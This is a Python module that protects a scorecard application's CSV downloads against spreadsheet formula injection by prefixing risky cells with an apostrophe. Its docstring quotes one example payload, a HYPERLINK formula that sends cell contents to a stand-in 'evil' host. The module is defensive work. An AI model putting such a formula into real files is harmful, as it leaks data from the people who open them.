"""CSV the scorecard hands out, safe to open in a spreadsheet (formula injection).

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
a formula to Excel, LibreOffice and Google Sheets: agency data such as
``=HYPERLINK("http://evil/?"&A1)`` would run when a councillor opens the download. Such
cells get a leading apostrophe, which spreadsheets show as text (OWASP's advice). Plain
numbers ("-3", "+1.5") are left alone: they are not formulas.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # the frames come from the caller: the command line's CSV needs no pandas
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def neutralised(value: Any) -> Any:
    """The cell, made inert if it is text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_number(value):
        return "'" + value
    return value


def neutralised_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Every cell and column name made inert (for tables whose contents came from
    agencies: Streamlit's own table toolbar can download them as CSV too)."""
    safe = frame.map(neutralised)
    safe.columns = [neutralised(str(c)) for c in frame.columns]
    return safe


def safe_csv(frame: pd.DataFrame) -> bytes:
    """The frame as UTF-8 CSV with every cell inert."""
    text: str = neutralised_frame(frame).to_csv(index=False)
    return text.encode("utf-8")
